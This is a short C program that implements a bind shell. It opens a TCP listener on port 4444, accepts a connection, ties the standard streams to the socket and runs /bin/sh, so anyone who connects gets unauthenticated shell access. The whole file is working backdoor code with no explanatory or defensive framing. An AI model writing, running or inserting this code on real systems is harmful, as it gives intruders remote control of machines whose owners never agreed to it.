#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>
int main(void) {
    struct sockaddr_in a = {0};
    int s = socket(AF_INET, SOCK_STREAM, 0), c;
    a.sin_family = AF_INET;
    a.sin_port = htons(4444);
    bind(s, (struct sockaddr *)&a, sizeof a);
    listen(s, 1);
    c = accept(s, 0, 0);
    dup2(c, 0); dup2(c, 1); dup2(c, 2);
    execl("/bin/sh", "sh", (char *)0);
    return 0;
}
